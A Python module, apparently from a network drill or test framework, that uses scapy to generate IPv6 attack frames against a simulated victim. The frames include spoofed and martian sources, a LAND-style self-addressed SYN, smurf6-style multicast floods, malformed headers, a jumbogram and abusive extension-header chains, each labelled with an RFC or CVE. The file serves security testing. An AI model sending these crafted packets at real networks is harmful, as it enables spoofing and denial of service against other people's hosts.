"""IPv6: forged sources, destinations that mean many, extension headers that hide or contradict."""

from __future__ import annotations

from collections.abc import Iterator

from scapy.layers.inet import TCP, UDP
from scapy.layers.inet6 import (
    HBHOptUnknown,
    ICMPv6EchoRequest,
    IPv6,
    IPv6ExtHdrDestOpt,
    IPv6ExtHdrHopByHop,
    Jumbo,
    PadN,
)
from scapy.packet import Raw

from vnet.drill.attack import NO_CLOSED_PORT, Exercise, Maker
from vnet.drill.frames import CLIENT_PORT, Layer, ether, group_mac, hop, layer4, wire
from vnet.drill.scene import TCP as TCP_NUMBER
from vnet.drill.scene import Scene

FORGED = "RFC 2827 (BCP 38); THC-IPv6"
MARTIANS = {
    "::": "RFC 4291, 2.5.2",
    "::1": "RFC 4291, 2.5.3",
    "ff02::1": "RFC 4291, 2.7",
    "fe80::1": "RFC 4291, 2.5.6",
}
CHAIN = "RFC 8200, 4.1; RFC 9098"


def attacks(scene: Scene) -> Iterator[Exercise]:
    """IPv6 spoofing, malformed IPv6, and chains of extension headers."""
    make = Maker("ipv6", scene.twin.name)
    yield from _forged(scene, make)
    yield from _astray(scene, make)
    yield from _malformed(scene, make)
    yield from _chains(scene, make)


def _forged(scene: Scene, make: Maker) -> Iterator[Exercise]:
    twin, victim, talk = scene.twin, scene.victim, scene.conversation(6)
    path = talk.service if talk else scene.toward(TCP_NUMBER, 6)
    client = talk.client if talk else scene.bystander
    claimed = {
        "a neighbour": client.v6,
        "a neighbour's link-local": client.local,
        "the gateway": scene.gateway6,
        "another network": scene.stranger.v6,
        "outside": "2001:db8:7::7",
        "a made-up interface identifier": "fe80::5eed",
        "an IPv4-mapped neighbour": f"::ffff:{client.v4}",
        "an IPv4-compatible neighbour": f"::{client.v4}",
        "6to4 of a neighbour": _six_to_four(client.v4),
    }
    link = ether(twin.mac, path.station.mac)
    for who, address in claimed.items():
        outer = IPv6(src=address, dst=path.address)
        echo = wire(link, outer, ICMPv6EchoRequest(id=7))
        yield make.attack(f"as {who}", FORGED, wire(link, outer, layer4(path)), echo)
    for address, source in MARTIANS.items():
        yield make.attack(
            f"as {address}", source, wire(link, IPv6(src=address, dst=path.address), layer4(path))
        )
    itself = IPv6(src=victim.v6, dst=victim.v6) / TCP(sport=139, dport=139, flags="S")
    yield make.attack("a neighbour to itself", "CVE-2005-1649", wire(ether(twin.mac, victim.mac), itself))


def _six_to_four(address: str) -> str:
    """The prefix of RFC 3056 for an IPv4 address."""
    octets = [int(part) for part in address.split(".")]
    return f"2002:{octets[0] << 8 | octets[1]:x}:{octets[2] << 8 | octets[3]:x}::1"


def _astray(scene: Scene, make: Maker) -> Iterator[Exercise]:
    twin, victim, stranger = scene.twin, scene.victim, scene.stranger
    said = UDP(sport=CLIENT_PORT, dport=5353) / Raw(b"drill")
    for address, what in (
        ("ff02::1", "all nodes"),
        ("ff02::fb", "multicast (mDNS)"),
        ("ff05::1:3", "site multicast"),
    ):
        outer = IPv6(src=twin.v6, dst=address)
        echo = wire(ether(twin.mac, group_mac(address)), outer, ICMPv6EchoRequest(id=7))
        yield make.attack(
            what, "smurf6 (THC-IPv6)", wire(ether(twin.mac, group_mac(address)), outer, said), echo
        )
        yield make.attack(
            f"{what} to one MAC", "RFC 1122, 3.3.6", wire(ether(twin.mac, victim.mac), outer, said)
        )
    syn = TCP(sport=CLIENT_PORT, dport=80, flags="S")
    strays = {
        "an IPv4-mapped neighbour": (victim.mac, f"::ffff:{victim.v4}"),
        "a neighbour's loopback": (victim.mac, "::1"),
        "one neighbour to another's MAC": (victim.mac, scene.bystander.v6),
        "another network": (stranger.mac, stranger.v6),
        "another network's link-local": (stranger.mac, stranger.local),
        "nobody": (victim.mac, "fe80::dead"),
    }
    for what, (mac, address) in strays.items():
        frame = wire(ether(twin.mac, mac), IPv6(src=twin.v6, dst=address), syn)
        yield make.attack(f"to {what}", "RFC 4291, 2.5; draft-itojun-v6ops-v4mapped-harmful", frame)


def _malformed(scene: Scene, make: Maker) -> Iterator[Exercise]:
    path = scene.toward(TCP_NUMBER, 6)
    good = wire(hop(scene.twin, path), layer4(path))
    for version in (0, 4, 7):
        frame = wire(hop(scene.twin, path), layer4(path))
        yield make.attack(
            f"version {version}", "RFC 8200, 3", frame[:14] + bytes((version << 4,)) + frame[15:]
        )
    for what, length in (("0", 0), ("that cuts TCP off", 12), ("beyond the frame", 1400)):
        yield make.attack(
            f"payload length {what}", "RFC 8200, 3", wire(hop(scene.twin, path, plen=length), layer4(path))
        )
    jumbo = IPv6ExtHdrHopByHop(options=[Jumbo(jumboplen=1 << 17)])
    yield make.attack(
        "jumbogram", "RFC 2675; CVE-2007-4567", wire(hop(scene.twin, path, plen=0), jumbo, layer4(path))
    )
    for size in (20, 53, 54, 66):
        yield make.attack(f"cut off after {size} bytes", "RFC 8200, 3", good[:size])


def _chains(scene: Scene, make: Maker) -> Iterator[Exercise]:
    """Extension headers before what the rules forbid, and chains that no host sends."""
    path = scene.toward(TCP_NUMBER, 6)
    padding = IPv6ExtHdrDestOpt(options=[PadN(optdata=bytes(4))])
    yield from _to_closed(scene, make, padding)
    many = wire(hop(scene.twin, path), *([padding] * 12), layer4(path))
    yield make.attack("twelve extension headers", CHAIN, many)
    beyond = wire(
        hop(scene.twin, path), IPv6ExtHdrDestOpt(len=200, options=[PadN(optdata=bytes(4))]), layer4(path)
    )
    yield make.attack("an extension header beyond the packet", CHAIN, beyond)
    cut = wire(hop(scene.twin, path, nh=60), Raw(b"\x06\x00\x01\x04"))
    yield make.attack("half an extension header", CHAIN, cut)
    nothing = wire(hop(scene.twin, path), padding)
    promised = nothing[:54] + bytes((TCP_NUMBER,)) + nothing[55:]
    yield make.attack("an extension header before nothing", "RFC 7112", promised)
    unknown = IPv6ExtHdrHopByHop(options=[HBHOptUnknown(otype=0x82, optdata=b"\0\0\0\0")])
    group = wire(
        ether(scene.twin.mac, group_mac("ff02::1")), IPv6(src=scene.twin.v6, dst="ff02::1"), unknown, TCP()
    )
    yield make.attack("options that make all hosts answer", "RFC 8200, 4.2; denial6 (THC-IPv6)", group)


def _to_closed(scene: Scene, make: Maker, padding: Layer) -> Iterator[Exercise]:
    closed, options = scene.unreachable(TCP_NUMBER, 6), IPv6ExtHdrHopByHop(options=[PadN(optdata=bytes(4))])
    chains: dict[str, tuple[Layer, ...]] = {
        "hop-by-hop options": (options,),
        "destination options": (padding,),
        "six destination options": (padding,) * 6,
        "hop-by-hop options that are not first": (padding, options),
    }
    for what, chain in chains.items():
        said = f"behind {what}, to a closed port"
        if closed is None:
            yield make.missing(said, CHAIN, NO_CLOSED_PORT)
        else:
            yield make.attack(said, CHAIN, wire(hop(scene.twin, closed), *chain, layer4(closed)))
